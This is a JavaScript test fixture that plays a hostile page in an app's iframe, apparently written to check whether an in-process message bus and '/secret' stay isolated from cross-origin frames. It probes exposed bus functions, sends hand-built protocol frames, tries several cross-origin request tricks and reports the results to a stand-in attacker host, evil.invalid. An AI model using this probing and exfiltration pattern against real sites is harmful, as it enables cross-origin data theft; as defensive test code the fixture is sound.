// A hostile page in an iframe of the app: tries every way it has to reach the bus, and
// reports what it saw to its own origin (a GET: the test's stand-in for evil.invalid
// reads the query).
function requestHead(stream, method, uri) {
  // Frame v1 RequestHead, encoded by hand (see docs/PROTOCOL.md): what a page that knows
  // the protocol could send without the shim.
  const enc = new TextEncoder();
  const m = enc.encode(method); const u = enc.encode(uri);
  const out = new Uint8Array(1 + 4 + 4 + 8 + m.length + 8 + u.length + 8 + 1 + 4);
  const v = new DataView(out.buffer); let o = 0;
  out[o++] = 1; v.setUint32(o, 0, true); o += 4; v.setUint32(o, stream, true); o += 4;
  v.setBigUint64(o, BigInt(m.length), true); o += 8; out.set(m, o); o += m.length;
  v.setBigUint64(o, BigInt(u.length), true); o += 8; out.set(u, o); o += u.length;
  v.setBigUint64(o, 0n, true); o += 8; out[o++] = 1; v.setUint32(o, 65536, true);
  return btoa(String.fromCharCode(...out));
}
(async () => {
  const seen = { where: location.href };
  seen.bindingVisible = typeof window.__inprocBusSend === 'function';
  seen.deliverVisible = typeof window.__inprocBusDeliver !== 'undefined';
  seen.bridgeVisible = typeof window.InprocBusBridge !== 'undefined';
  try { seen.parentDeliver = typeof parent.__inprocBusDeliver; } catch (e) { seen.parentDeliver = e.name; }
  if (seen.bindingVisible) {
    window.__inprocBusSend(requestHead(1, 'GET', '/secret'));
    window.__inprocBusSend(requestHead(3, 'GET', 'https://app.invalid/secret'));
  }
  const attempt = async (label, run) => {
    try { const r = await run(); seen[label] = r.type === 'opaque' ? 'opaque' : r.status; } catch (e) { seen[label] = e.name; }
  };
  await attempt('corsGet', () => fetch('https://app.invalid/secret'));
  await attempt('noCorsGet', () => fetch('https://app.invalid/secret?no-cors', { mode: 'no-cors' }));
  await attempt('noCorsPost', () => fetch('https://app.invalid/secret?post', { method: 'POST', mode: 'no-cors', body: 'x' }));
  seen.img = await new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve('loaded'); img.onerror = () => resolve('error');
    img.src = 'https://app.invalid/secret?img'; // not a public mount
  });
  await fetch('https://evil.invalid/report?d=' + encodeURIComponent(JSON.stringify(seen))).catch(() => {});
})();
